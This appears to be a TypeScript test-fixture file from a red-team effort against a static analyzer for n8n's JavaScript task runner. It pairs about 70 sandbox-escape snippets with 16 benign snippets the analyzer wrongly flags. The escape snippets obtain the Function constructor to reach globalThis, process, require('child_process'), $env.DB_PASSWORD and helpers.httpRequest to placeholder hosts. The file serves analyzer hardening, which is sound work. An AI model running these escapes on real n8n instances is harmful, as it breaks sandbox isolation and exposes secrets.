// Round 4 of the code-purity red team: snippets that get hold of a capability in n8n 2.41's secure JS
// task runner (confirmed by ./n8n-sandbox.ts, with the options noted) while analyzeJavaScript() reports
// nothing, and realistic pure snippets that the rule reports. Generated from the red-team session; each
// entry was re-checked against dist/validate/js-analysis.js and runLikeN8n().
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND4: RedTeamBypass[] = [
  {
    "id": "ret-F-dynkey",
    "cls": "unknown-returned",
    "code": "const k = items[0].json.key;\nreturn (() => 0)[k];",
    "why": "An unknown value may be returned by design (\"it may be a Function constructor\"), so reading .constructor through a run-time key and returning it hands back the sandbox Function constructor."
  },
  {
    "id": "replace-chain",
    "cls": "protocol-call",
    "code": "const k = items[0].json.key;\nconst F = (() => 0)[k];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'return globalThis');\nconst G = 'b'.replace({ [Symbol.replace]: g }, '');\nreturn [{ json: { ok: true }, g: G }];",
    "why": "String.prototype.replace is NON_INVOKING at position 0, and an object literal holding an unknown is only 'unknown', so { [Symbol.replace]: F } may be passed; replace calls F('a', 'return globalThis') (compiles), and a second replace calls the compiled function."
  },
  {
    "id": "replace-chain-helpers",
    "cls": "protocol-call",
    "code": "const k = items[0].json.key;\nconst F = (() => 0)[k];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'return helpers.httpRequest({url: \"https://x.invalid\"})');\n'b'.replace({ [Symbol.replace]: g }, '');\nreturn [{ json: { ok: true } }];",
    "why": "Same as replace-chain, the compiled body calls helpers.httpRequest: the analysis never sees a call of an unknown value."
  },
  {
    "id": "proto/split",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'x'.split({ [Symbol.split]: F }, 'return globalThis');\nreturn 'y'.split({ [Symbol.split]: g });",
    "why": "split is NON_INVOKING at 0; split(obj, limit) calls obj[Symbol.split](string, limit), i.e. F('x', 'return globalThis')."
  },
  {
    "id": "proto/match",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'return globalThis'.match({ [Symbol.match]: F });\nreturn ''.match({ [Symbol.match]: g });",
    "why": "match is NON_INVOKING ('*'); it calls obj[Symbol.match](string): F(body) compiles, a second match runs it."
  },
  {
    "id": "proto/search",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'return globalThis'.search({ [Symbol.search]: F });\nreturn ''.search({ [Symbol.search]: g });",
    "why": "search is NON_INVOKING; it calls obj[Symbol.search](string)."
  },
  {
    "id": "proto/matchAll",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'return globalThis'.matchAll({ [Symbol.matchAll]: F });\nreturn ''.matchAll({ [Symbol.matchAll]: g });",
    "why": "matchAll is NON_INVOKING; it calls obj[Symbol.matchAll](string) for a non-RegExp object."
  },
  {
    "id": "proto/replaceAll",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replaceAll({ [Symbol.replace]: F }, 'return globalThis');\nreturn 'b'.replaceAll({ [Symbol.replace]: g }, '');",
    "why": "replaceAll is NON_INVOKING at 0; like replace it calls obj[Symbol.replace](string, replacement)."
  },
  {
    "id": "proto/toJSON-replacer",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst box = {};\nJSON.stringify({ 'return globalThis': { toJSON: F } }, function (k, v) { if (typeof v === 'function') box.g = v; return v; });\nreturn JSON.stringify({ toJSON: box.g }) && 1;",
    "why": "JSON.stringify is NON_INVOKING at 0 but calls each value's toJSON(key) with the property name as argument: toJSON = F compiles the key; the code's own replacer receives the compiled function and a second stringify runs it as toJSON."
  },
  {
    "id": "proto/await-thenable",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'a(globalThis)');\nreturn await { then: g };",
    "why": "Awaiting an unknown (an object literal holding one) is allowed, but await calls its then(resolve, reject): the compiled function runs and resolves with the global object."
  },
  {
    "id": "proto/for-of-iterator",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'return [globalThis][Symbol.iterator]()');\nfor (const x of { [Symbol.iterator]: g }) return x;",
    "why": "Iterating an unknown is allowed, but for-of calls its [Symbol.iterator]() (compiled code)."
  },
  {
    "id": "proto/spread-iterator",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'return [globalThis][Symbol.iterator]()');\nreturn [...{ [Symbol.iterator]: g }];",
    "why": "Spreading an unknown into an array literal is allowed; spread calls [Symbol.iterator]()."
  },
  {
    "id": "proto/instanceof",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'helpers.httpRequest({ url: \"https://x.invalid\" }); return true');\nreturn [{ json: { ok: 1 instanceof { [Symbol.hasInstance]: g } } }];",
    "why": "instanceof with an unknown (loose) operand is allowed; it calls the right operand's [Symbol.hasInstance](x)."
  },
  {
    "id": "proto/String-toString",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'require(\"child_process\"); return \"x\"');\nreturn [{ json: { s: String({ toString: g }) } }];",
    "why": "String() is NON_INVOKING, but converting an object calls its toString: that is the compiled function, not 'code of the analysed body'."
  },
  {
    "id": "proto/promise-resolve",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'a(globalThis.$env.DB_PASSWORD)');\nreturn [{ json: { v: await Promise.resolve({ then: g }) } }];",
    "why": "Promise.resolve is NON_INVOKING, but resolving with a thenable calls its then(resolve, reject) in a job."
  },
  {
    "id": "proto/template",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'return require(\"fs\") && \"x\"');\nreturn `${{ toString: g }}`;",
    "why": "A template literal converts an unknown (allowed), calling its toString."
  },
  {
    "id": "proto/Array.from-iter",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'return [globalThis.process ?? globalThis][Symbol.iterator]()');\nreturn Array.from({ [Symbol.iterator]: g });",
    "why": "Array.from is NON_INVOKING at 0 but calls the iterable's [Symbol.iterator]()."
  },
  {
    "id": "proto/new-Date-toPrimitive",
    "cls": "protocol-call",
    "code": "const F = (() => 0)[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: F }, 'helpers.request({ uri: \"https://x.invalid\" }); return 0');\nreturn [{ json: { d: new Date({ [Symbol.toPrimitive]: g }).getTime() } }];",
    "why": "Date is NON_INVOKING, but new Date(obj) calls obj[Symbol.toPrimitive]('default')."
  },
  {
    "id": "proto/sort-toString",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'require(\"net\"); return \"a\"');\nreturn [{ json: { v: [{ toString: g }, { toString: g }].sort().length } }];",
    "why": "sort() without a comparator is a SAFE_METHOD on an unknown receiver, and converts each element with its toString."
  },
  {
    "id": "proto/join",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'helpers.httpRequest({ url: \"https://c.invalid\" }); return \"\"');\nreturn [{ json: { v: [{ toString: g }].join('') } }];",
    "why": "join is a SAFE/NON_INVOKING method, but converts each element with its toString."
  },
  {
    "id": "proto/promise-all-iter",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'return [globalThis][Symbol.iterator]()');\nreturn (await Promise.all({ [Symbol.iterator]: g }))[0];",
    "why": "Promise.all is NON_INVOKING, but iterates its argument ([Symbol.iterator]())."
  },
  {
    "id": "proto/for-await",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'return [globalThis][Symbol.iterator]()');\nfor await (const x of { [Symbol.iterator]: g }) return x;",
    "why": "for await over an unknown calls its [Symbol.iterator]()."
  },
  {
    "id": "proto/array-destructure",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'return [globalThis][Symbol.iterator]()');\nconst [x] = { [Symbol.iterator]: g };\nreturn x;",
    "why": "Array destructuring of an unknown binds unknowns, but runs its [Symbol.iterator]()."
  },
  {
    "id": "proto/fromEntries",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'return [[\"g\", globalThis]][Symbol.iterator]()');\nreturn Object.fromEntries({ [Symbol.iterator]: g }).g;",
    "why": "Object.fromEntries is NON_INVOKING but iterates its argument."
  },
  {
    "id": "proto/computed-key",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'helpers.httpRequest({ url: \"https://c.invalid\" }); return \"k\"');\nconst o = { [{ toString: g }]: 1 };\nreturn [{ json: o }];",
    "why": "An unknown used as a computed key of an object literal is allowed (loose) but ToPropertyKey calls its toString."
  },
  {
    "id": "proto/unary-plus",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'require(\"os\"); return 1');\nreturn [{ json: { n: +{ valueOf: g } } }];",
    "why": "Unary + on an unknown is allowed; it calls valueOf."
  },
  {
    "id": "proto/loose-eq",
    "cls": "protocol-call",
    "code": "const g = 'a'.replace({ [Symbol.replace]: (() => 0)[items[0].json.key] }, 'require(\"os\"); return 1');\nreturn [{ json: { n: { valueOf: g } == 1 } }];",
    "why": "== with an unknown operand is allowed; it calls valueOf."
  },
  {
    "id": "keys/proxy-for-in",
    "cls": "own-key-proof",
    "code": "const p = new Proxy(() => 0, {\n  ownKeys: () => ['constructor', 'length', 'name'],\n  getOwnPropertyDescriptor: (t, k) => ({ value: 0, enumerable: true, configurable: true }),\n});\nfor (const k in p) {\n  const F = p[k];\n  if (k.length === 11) return F('return globalThis')();\n}\nreturn [];",
    "why": "The own-key proof (for (k in p) p[k]) trusts that enumerated keys are own keys: a Proxy's ownKeys/getOwnPropertyDescriptor traps enumerate 'constructor', and p[k] (no get trap) reads the target's inherited constructor, typed as plain data and then called unchecked."
  },
  {
    "id": "keys/proxy-object-keys",
    "cls": "own-key-proof",
    "code": "const p = new Proxy(() => 0, {\n  ownKeys: () => ['constructor', 'length', 'name'],\n  getOwnPropertyDescriptor: () => ({ value: 0, enumerable: true, configurable: true }),\n});\nreturn Object.keys(p).map((k) => p[k]).filter((v) => typeof v === 'function')[0]('return globalThis')();",
    "why": "Object.keys(p).map((k) => p[k]) is proven own-key safe; the Proxy enumerates constructor."
  },
  {
    "id": "keys/proxy-entries",
    "cls": "own-key-proof",
    "code": "const p = new Proxy(() => 0, {\n  ownKeys: () => ['length', 'name', 'constructor'],\n  getOwnPropertyDescriptor: () => ({ value: 0, enumerable: true, configurable: true }),\n});\nfor (const [k, v] of Object.entries(p)) if (k.length === 11) return v('return globalThis')();\nreturn [];",
    "why": "Object.entries(p) of a Proxy gives [['constructor', Function]]: the value is plain data to the analysis (nothing unknown went in)."
  },
  {
    "id": "keys/proxy-values",
    "cls": "own-key-proof",
    "code": "const p = new Proxy(() => 0, {\n  ownKeys: () => ['constructor', 'length', 'name'],\n  getOwnPropertyDescriptor: () => ({ value: 0, enumerable: true, configurable: true }),\n});\nreturn Object.values(p)[0]('return globalThis')();",
    "why": "Object.values(p)[0]: a built-in given plain data returns plain data; the Proxy makes it the Function constructor."
  },
  {
    "id": "keys/proxy-spread-map",
    "cls": "own-key-proof",
    "code": "const p = new Proxy(async () => 0, {\n  ownKeys: () => ['constructor', 'length', 'name'],\n  getOwnPropertyDescriptor: () => ({ value: 0, enumerable: true, configurable: true }),\n});\nconst m = new Map(Object.entries({ ...p }));\nreturn await m.get('constructor')('return globalThis')();",
    "why": "Object spread of a Proxy copies an enumerable constructor; Map.get returns it as plain data (AsyncFunction constructor)."
  },
  {
    "id": "index/fromEntries-map",
    "cls": "index-proof",
    "code": "const list = Object.fromEntries([['map', (cb) => cb(0, 'constructor')]]);\nconst F = list.map((x, i) => (() => 0)[i]);\nreturn F('return globalThis')();",
    "why": "The index parameter of .map((x, i) => ...) is proven numeric only by the method name; an object built with Object.fromEntries has a map of the code's own (no property key named map appears) that passes 'constructor' as i."
  },
  {
    "id": "index/proxy-map",
    "cls": "index-proof",
    "code": "const list = new Proxy([], { get: () => (cb) => [cb(0, 'constructor')] });\nconst [F] = list.filter((x, i) => (() => 0)[i]);\nreturn (list.map((x, i) => (() => 0)[i]))[0]('return globalThis')();",
    "why": "A Proxy whose get trap returns a fake map/filter passes 'constructor' as the 'index' parameter."
  },
  {
    "id": "catch/await-reject",
    "cls": "catch-param",
    "code": "const F = (() => 0)[items[0].json.key];\ntry {\n  await Promise.reject(F);\n} catch (e) {\n  return e('return globalThis')();\n}",
    "why": "A catch parameter only receives values of throw statements; await Promise.reject(F) (reject is NON_INVOKING) rethrows F into catch (e), which is plain data and called unchecked."
  },
  {
    "id": "catch/any-aggregate",
    "cls": "catch-param",
    "code": "const F = (() => 0)[items[0].json.key];\ntry {\n  await Promise.any([Promise.reject(F)]);\n} catch (e) {\n  return e.errors[0]('return globalThis')();\n}",
    "why": "Promise.any's AggregateError carries the rejection values in .errors; the catch parameter is plain."
  },
  {
    "id": "gen/for-of-yield",
    "cls": "generator-yield",
    "code": "function* pick() {\n  yield (() => 0)[items[0].json.key];\n}\nfor (const F of pick()) return F('return globalThis')();",
    "why": "yield is only checked as an escape of the global object etc.; what a generator yields never reaches the values of for-of / destructuring / next() (only return values are followed)."
  },
  {
    "id": "gen/destructure-yield",
    "cls": "generator-yield",
    "code": "const gen = function* () { yield (async () => 0)[items[0].json.key]; };\nconst [F] = gen();\nreturn await F('return globalThis')();",
    "why": "Array destructuring of a generator call: the yielded AsyncFunction constructor is plain data."
  },
  {
    "id": "gen/next-value",
    "cls": "generator-yield",
    "code": "function* gen() { yield Math.max[items[0].json.key]; }\nreturn gen().next().value('return globalThis')();",
    "why": "gen().next().value is plain data even though the generator yields a Function constructor."
  },
  {
    "id": "toplevel/var-reassigned-key",
    "cls": "top-level-var",
    "code": "var k = 'name';\nk = items[0].json.key;\nreturn (() => 0)[k]('return globalThis')();",
    "why": "eslint-scope leaves references to top-level var declarations of a script unresolved, so variable.references is empty: writesOf() is 0 and constantOf() folds var k = 'name' although k is reassigned."
  },
  {
    "id": "toplevel/var-numeric-proof",
    "cls": "top-level-var",
    "code": "var i = ['con', 'struc', 'tor'].join('');\nreturn (() => 0)[i]('return globalThis')();",
    "why": "isNumeric() checks every write of the variable; a top-level var has no references in eslint-scope, so any value (here a joined string) is proven numeric."
  },
  {
    "id": "toplevel/var-path-reassigned",
    "cls": "top-level-var",
    "code": "var src = { constructor: 1 };\nfor (const k in src) {\n  src = () => 0;\n  return src[k]('return globalThis')();\n}",
    "why": "samePath() trusts a variable written at most once; a top-level var is reassigned to a function inside for-in and read at the enumerated constructor key."
  },
  {
    "id": "scope/catch-var-annexb",
    "cls": "scope",
    "code": "function pick() {\n  try {\n    throw 0;\n  } catch (k) {\n    var k = 'name';\n  }\n  k = ['con', 'struc', 'tor'].join('');\n  return (() => 0)[k];\n}\nreturn pick()('return globalThis')();",
    "why": "Annex B: var k = 'name' inside catch (k) assigns the catch parameter; the function-level k is written once elsewhere, so constantOf() still folds it to 'name'."
  },
  {
    "id": "toplevel/function-never-escapes",
    "cls": "top-level-function",
    "code": "function grab() {\n  return (() => 0)[items[0].json.key];\n}\nconst o = { m: grab };\nreturn o.m()('return globalThis')();",
    "why": "escapes() looks at variable.references, empty for a top-level function declaration: its return value is never added to escapedReturn, so o.m() (the same function stored in an object) is plain."
  },
  {
    "id": "toplevel/function-call-method",
    "cls": "top-level-function",
    "code": "function grab() {\n  return (() => 0)[items[0].json.key];\n}\nreturn grab.call()('return globalThis')();",
    "why": "grab.call() of a top-level function declaration: not escaping, its unknown return is lost."
  },
  {
    "id": "toplevel/fn-param-push-fixed",
    "cls": "top-level-function",
    "code": "function run(F) {\n  return 'a'.replace({ [Symbol.replace]: F('return globalThis') }, '');\n}\nconst sink = { push: run };\nreturn sink.push((() => 0)[items[0].json.key]);",
    "why": "A top-level function declaration stored as { push: run } never escapes, so its parameter gets nothing; push is NON_INVOKING and not shadowed by an object-literal key, so passing the unknown is allowed."
  },
  {
    "id": "spread/values-into-own-fixed",
    "cls": "spread",
    "code": "const box = {};\nbox.f = (() => 0)[items[0].json.key];\nconst run = (F) => 'a'.replace({ [Symbol.replace]: F('return globalThis') }, '');\nreturn run(...Object.values(box));",
    "why": "Object.values(box) of a plain object returns plain data; spreading it into a followed own function binds nothing to its parameter."
  },
  {
    "id": "global-method/strict-this",
    "cls": "global-receiver",
    "code": "globalThis.grab = function () {\n  'use strict';\n  return this;\n};\nreturn globalThis.grab();",
    "why": "Writing an absent key of the global object is allowed and reading it back is plain; calling globalThis.grab() passes the global object as receiver to a 'use strict' function, whose this is not tracked."
  },
  {
    "id": "global-method/class-static",
    "cls": "global-receiver",
    "code": "this.whoami = class { static me() { return this; } }.me;\nreturn this.whoami().helpers.httpRequest({ url: 'https://collector.invalid/' });",
    "why": "this.whoami = a class static method (strict); this.whoami() passes the global object as its receiver."
  },
  {
    "id": "global-method/optional-call",
    "cls": "global-receiver",
    "code": "globalThis.me = (class { static f() { return this; } }).f;\nreturn globalThis.me?.();",
    "why": "globalThis.me?.() with a class static method."
  },
  {
    "id": "global-method/use-strict-fn-decl",
    "cls": "global-receiver",
    "code": "const grab = function () { 'use strict'; return this.$env.DB_PASSWORD; };\nthis.grab = grab;\nreturn [{ json: { v: this.grab() } }];",
    "why": "A strict function stored on the global object and called as its method reads this.$env."
  },
  {
    "id": "receiver/sloppy-this-prop-toString",
    "cls": "sloppy-this-receiver",
    "code": "const box = {\n  f: (() => 0)[items[0].json.key],\n  toString() {\n    this.g = this.f('return globalThis')();\n    return '';\n  },\n};\nString(box);\nreturn box.g;",
    "why": "In a sloppy method this.f is analysed as a read of the global object at an absent key (plain undefined), but the real receiver is the object holding F; String(box) runs toString, which calls this.f unchecked."
  },
  {
    "id": "receiver/sloppy-this-get",
    "cls": "sloppy-this-receiver",
    "code": "const box = {\n  f: (() => 0)[items[0].json.key],\n  get() {\n    return this.f('return globalThis')();\n  },\n};\nreturn box.get();",
    "why": "A method named get (a SAFE_METHOD, so callable on the unknown box) calls this.f, analysed as plain."
  },
  {
    "id": "launder/valueOf",
    "cls": "laundering",
    "code": "const F = (() => 0)[items[0].json.key];\nreturn F.valueOf()('return globalThis')();",
    "why": "callCapability marks the result of calling a method on an unknown receiver as reported: true although nothing was reported (the method was a SAFE_METHOD): F.valueOf() is F, and calling it is never reported."
  },
  {
    "id": "launder/array-at",
    "cls": "laundering",
    "code": "const F = [(() => 0)[items[0].json.key]].at(0);\nreturn F('return globalThis')();",
    "why": "[F].at(0): a SAFE_METHOD call on an unknown array returns a value marked reported, which may be called."
  },
  {
    "id": "launder/find",
    "cls": "laundering",
    "code": "const fns = [Math.max[items[0].json.key]];\nconst F = fns.find(Boolean);\nconst g = F('return helpers');\nreturn g();",
    "why": "[F].find(Boolean) returns F marked reported."
  },
  {
    "id": "launder/heap-reported",
    "cls": "laundering",
    "code": "const F = ((() => 0)[items[0].json.key]).valueOf();\nconst box = {};\nbox.run = F;\nreturn box.run('return globalThis')();",
    "why": "A laundered value stored into a property marks the whole heap reported: every later read of it can be called."
  },
  {
    "id": "launder/reported-catch-heap",
    "cls": "laundering",
    "code": "const F = Math.min[items[0].json.key];\nconst { valueOf } = { valueOf: 1 };\nreturn [F].at(-1)('return globalThis')();",
    "why": "[F].at(-1) on a Math.min constructor read."
  },
  {
    "id": "launder/map-set-get",
    "cls": "laundering",
    "code": "const m = new Map();\nm.set('f', (() => 0)[items[0].json.key]);\nreturn m.get('f')('return globalThis')();",
    "why": "m.get('f') of a Map that holds F: the call of an ambient (unknown) method on the code's own object is allowed and its result marked reported."
  },
  {
    "id": "launder/own-getter",
    "cls": "laundering",
    "code": "const o = { get f() { return (() => 0)[items[0].json.key]; } };\nreturn o.f('return globalThis')();",
    "why": "o.f of an object literal getter returns unknown (escapedReturn); calling o.f(...) as a method of the code's own object is allowed and its result is marked reported."
  },
  {
    "id": "param/index-reassigned",
    "cls": "param-reassign",
    "code": "const F = [0].map((x, i) => {\n  i = ['con', 'struc', 'tor'].join('');\n  return (() => 0)[i];\n})[0];\nreturn F('return globalThis')();",
    "why": "isIndexParameter() proves the map index numeric without looking at writes to it: i = joined string; (() => 0)[i] is plain."
  },
  {
    "id": "param/reduce-index-reassigned",
    "cls": "param-reassign",
    "code": "const F = [0].reduce((acc, x, i) => {\n  i = ['con', 'struc', 'tor'].join('');\n  return (() => 0)[i];\n}, null);\nreturn F('return globalThis')();",
    "why": "The reduce callback's index parameter, reassigned."
  },
  {
    "id": "param/own-key-reassigned",
    "cls": "param-reassign",
    "code": "const fn = () => 0;\nfn.label = 'x';\nlet F;\nObject.keys(fn).forEach((k) => {\n  k = ['con', 'struc', 'tor'].join('');\n  F = fn[k];\n});\nreturn F('return globalThis')();",
    "why": "ownKeysSource() allows one write of the forEach parameter (writesOf counts only the reassignment, not the binding): k is reassigned to constructor and fn[k] is proven own."
  },
  {
    "id": "param/literal-list-reassigned",
    "cls": "param-reassign",
    "code": "let F;\n['name', 'length'].forEach((k) => {\n  k = ['con', 'struc', 'tor'].join('');\n  F = (() => 0)[k];\n});\nreturn F('return globalThis')();",
    "why": "keyCandidates() allows one write of the element parameter of ['name', 'length'].forEach: reassigned to constructor."
  },
  {
    "id": "keys/literal-list-mutated-by-callback",
    "cls": "literal-list",
    "code": "const KEYS = ['name'];\nKEYS.forEach((k, i, all) => all.fill(['con', 'struc', 'tor'].join('')));\nfor (const k of KEYS) return (() => 0)[k]('return globalThis')();",
    "why": "literalStrings() accepts a const array read only by array methods, but forEach's third parameter is the array itself: all.fill(...) rewrites it to ['constructor'] before for-of."
  },
  {
    "id": "keys/own-keys-array-mutated",
    "cls": "own-key-proof",
    "code": "const fn = () => 0;\nfn.a = 1;\nfn.b = 2;\nlet F;\nObject.keys(fn).forEach((k, i, all) => {\n  if (i === 0) all[1] = ['con', 'struc', 'tor'].join('');\n  else F = fn[k];\n});\nreturn F('return globalThis')();",
    "why": "Object.keys(fn).forEach((k, i, all) => ...): the third parameter is the keys array; all[1] = 'constructor' is seen on the next iteration, and fn[k] is proven an own key."
  },
  {
    "id": "host/no-runner-flags-process",
    "cls": "host-realm",
    "code": "const H = items.at[items[0].json.key];\nconst g = 'a'.replace({ [Symbol.replace]: H }, 'return process');\nreturn 'b'.replace({ [Symbol.replace]: g }, '');",
    "why": "A run-time key on a host array method (items.at) reaches the runner realm's Function; without n8n's flags it compiles code whose globals are the runner's (process). Reaches it through Symbol.replace like replace-chain.",
    "runnerFlags": false
  }
];

export const ROUND4_FALSE_POSITIVES: RedTeamFalsePositive[] = [
  {
    "id": "fp/fluent-builder-return-this",
    "code": "const query = {\n  parts: [],\n  where(field, value) {\n    this.parts.push(field + '=' + encodeURIComponent(value));\n    return this;\n  },\n  build() {\n    return this.parts.join('&');\n  },\n};\nreturn [{ json: { qs: query.where('id', items[0].json.id).where('name', items[0].json.name).build() } }];",
    "why": "A fluent object-literal builder (return this for chaining) is reported as returning the global object: sloppy this is assumed global even in a method always called on its object."
  },
  {
    "id": "fp/es5-constructor-object-assign",
    "code": "function Contact(data) {\n  Object.assign(this, data);\n}\nreturn items.map((item) => ({ json: { ...new Contact(item.json) } }));",
    "why": "A pre-ES6 constructor function called only with new, Object.assign(this, data): reported as passing the global object."
  },
  {
    "id": "fp/this-items-in-constructor",
    "code": "function Batch(list) {\n  this.items = list;\n  this.size = list.length;\n}\nconst b = new Batch(items.map((i) => i.json.id));\nreturn [{ json: { size: b.size } }];",
    "why": "A constructor function called with new that sets this.items: reported as changing a global name n8n defines."
  },
  {
    "id": "fp/object-literal-return-this-getter",
    "code": "const acc = {\n  total: 0,\n  add(n) { this.total += n; return this; },\n};\nfor (const item of items) acc.add(item.json.score);\nreturn [{ json: { total: acc.total } }];",
    "why": "An accumulator object literal whose add() returns this."
  },
  {
    "id": "fp/map-with-thisArg-dynamic",
    "code": "const labels = { name: 'Name', email: 'E-mail' };\nreturn items.map(function (item) {\n  return { json: { label: this[item.json.field] ?? 'other' } };\n}, labels);",
    "why": "map(function, thisArg) with this[key]: reported as a dynamic read of the global object although thisArg is given."
  },
  {
    "id": "fp/date-setHours-dynamic-field",
    "code": "const field = $parameter.field;\nreturn items.map((item) => {\n  const d = new Date(item.json[field] ?? 0);\n  d.setHours(0, 0, 0, 0);\n  return { json: { day: Number.isNaN(d.getTime()) ? null : d.toISOString() } };\n});",
    "why": "new Date(item.json[field]).setHours(...): setHours is not a SAFE_METHOD, so truncating a date read from a configured field is unprovable."
  },
  {
    "id": "fp/trimLeft-getUTCMilliseconds",
    "code": "const f = $parameter.field;\nreturn items.map((item) => ({ json: { s: String(item.json[f]).trimLeft(), ms: new Date(item.json[f] ?? 0).getUTCMilliseconds() } }));",
    "why": "trimLeft / getUTCMilliseconds are missing from SAFE_METHODS (their siblings trimStart / getMilliseconds are there)."
  },
  {
    "id": "fp/math-log-dynamic-field",
    "code": "const metric = $parameter.field;\nreturn items.map((item) => ({ json: { logScore: Math.log10(Number(item.json.score)), raw: Math.log1p(item.json[metric] ? 1 : 0) + Math.hypot(item.json[metric] ?? 0, 1) } }));",
    "why": "Math.hypot / Math.log1p are not in NON_INVOKING (abs, round, max are): numeric code on a configured field is unprovable."
  },
  {
    "id": "fp/new-set-dynamic-field",
    "code": "const field = 'tags';\nconst key = $parameter.field;\nreturn items.map((item) => ({ json: { unique: [...new Set(item.json[key] ?? [])] } }));",
    "why": "Deduplicating a configured field with new Set(...) is unprovable (Set is not NON_INVOKING)."
  },
  {
    "id": "fp/regexp-from-field",
    "code": "const field = $parameter.field;\nreturn items.filter((item) => new RegExp('^A', 'i').test(item.json[field] ?? '')).map((item) => ({ json: { hit: new RegExp(item.json[field]).source } }));",
    "why": "new RegExp(item.json[field]) is unprovable (RegExp is not NON_INVOKING)."
  },
  {
    "id": "fp/intl-format-dynamic",
    "code": "const fmt = new Intl.NumberFormat('en-US', { style: 'currency', currency: 'USD' });\nconst field = $parameter.field;\nreturn items.map((item) => ({ json: { price: fmt.format(item.json[field] ?? 0) } }));",
    "why": "Intl.NumberFormat#format of a configured field is unprovable."
  },
  {
    "id": "fp/sleep-helper-rate-limit",
    "code": "const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));\nconst out = [];\nfor (const item of items) {\n  out.push({ json: { value: item.json[$parameter.field] } });\n  await sleep(1);\n}\nreturn out;",
    "why": "A sleep helper (new Promise((resolve) => setTimeout(resolve, ms))) becomes unprovable as soon as the same body pushes a dynamic-key value anywhere: the executor's resolve parameter is then 'unknown'."
  },
  {
    "id": "fp/legacy-arguments-slice",
    "code": "function joinAll() {\n  return Array.prototype.slice.call(arguments).join(' ');\n}\nreturn [{ json: { line: joinAll(items[0].json.name, items[0].json.email) } }];",
    "why": "The legacy Array.prototype.slice.call(arguments) idiom is unprovable."
  },
  {
    "id": "fp/object-toString-type-check",
    "code": "const field = $parameter.field;\nreturn items.map((item) => ({ json: { type: Object.prototype.toString.call(item.json[field]).slice(8, -1) } }));",
    "why": "Object.prototype.toString.call(value) type checks on a configured field are unprovable."
  },
  {
    "id": "fp/dispatch-table-hasOwn",
    "code": "const formatters = { upper: (s) => s.toUpperCase(), lower: (s) => s.toLowerCase() };\nreturn items.map((item) => {\n  const name = item.json.fmt;\n  const fn = Object.hasOwn(formatters, name) ? formatters[name] : (s) => s;\n  return { json: { out: fn(String(item.json.name)) } };\n});",
    "why": "A formatter dispatch table guarded by Object.hasOwn(formatters, name) is still unprovable (the guard is not a key proof)."
  },
  {
    "id": "fp/lookup-table-then-map",
    "code": "const byId = {};\nfor (const item of items) byId[item.json.id] = item.json[$parameter.field];\nreturn items.map((item) => ({ json: { id: item.json.id, picked: byId[item.json.id] } }));",
    "why": "Indexing a configured field by id (byId[id] = item.json[field]) writes at a run-time key, which sets shadowAll: every later method call on data, here items.map, is unprovable."
  }
];
